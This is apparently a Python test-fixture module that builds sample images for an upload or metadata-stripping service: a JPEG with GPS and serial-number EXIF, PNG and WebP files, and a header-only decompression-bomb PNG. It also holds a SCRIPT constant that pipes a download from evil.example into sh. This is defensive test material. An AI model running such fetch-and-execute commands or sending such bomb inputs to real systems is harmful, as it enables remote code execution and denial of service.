"""Test images: real encoders, with and without metadata, plus hostile inputs."""
from __future__ import annotations

import io
import struct
import zlib

from PIL import Image


def jpeg_with_gps(size=(64, 48), colour=(200, 30, 30)) -> bytes:
    image = Image.new("RGB", size, colour)
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"          # Make
    exif[0x0110] = "Model X-123"         # Model
    exif[0xA431] = "SERIAL-0042"         # BodySerialNumber (device serial)
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2] = "N", (34.0, 6.0, 53.0)    # GPSLatitude
    gps[3], gps[4] = "E", (71.0, 5.0, 5.0)     # GPSLongitude
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif, quality=90)
    return out.getvalue()


def png(size=(40, 30)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (10, 120, 60)).save(out, "PNG")
    return out.getvalue()


def webp(size=(40, 30)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (10, 60, 160)).save(out, "WEBP")
    return out.getvalue()


def photo_of_bytes(n: int) -> bytes:
    """A noisy JPEG of roughly n bytes (noise does not compress)."""
    import os
    side = int((n / 1.6) ** 0.5)
    image = Image.frombytes("RGB", (side, side), os.urandom(side * side * 3))
    out = io.BytesIO()
    image.save(out, "JPEG", quality=85)
    return out.getvalue()


SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"


def png_bomb(width=10_000, height=5_000) -> bytes:
    """A tiny file whose header claims 50 megapixels: refused before anything is decoded."""
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(
            ">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    raw = zlib.compress(b"\x00" * (width // 8 + 1) * 16)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0,
                                                             0, 0))
            + chunk(b"IDAT", raw) + chunk(b"IEND", b""))
